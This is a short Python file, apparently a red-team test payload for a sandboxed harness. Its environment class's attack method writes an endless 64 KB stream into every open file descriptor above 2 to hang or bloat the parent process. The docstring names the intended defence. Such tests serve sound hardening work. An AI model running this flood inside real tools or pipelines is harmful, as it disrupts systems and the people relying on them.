"""Red-team payload 305: an endless stream of bytes into every descriptor above 2, the reply channel among them.

layer: os; category: protocol; defence: the parent takes one frame of bounded size, then kills; the socket's buffer bounds what waits
Signs of success: a parent that hangs or grows. Harmless if it succeeds.
"""


class PayloadEnv:
    def __init__(self, max_turns=10, **kwargs):
        self.max_turns = max_turns

    def reset(self, seed=None):
        return "ready", {}

    def attack(self, action=""):
        import os
        flood = b"\xff" * 65536
        while True:
            for descriptor in range(3, 64):
                try:
                    os.write(descriptor, flood)
                except OSError:
                    pass

    def step(self, action):
        r = self.attack(action)
        return str(r)[:300], 0.0, True, False, {}
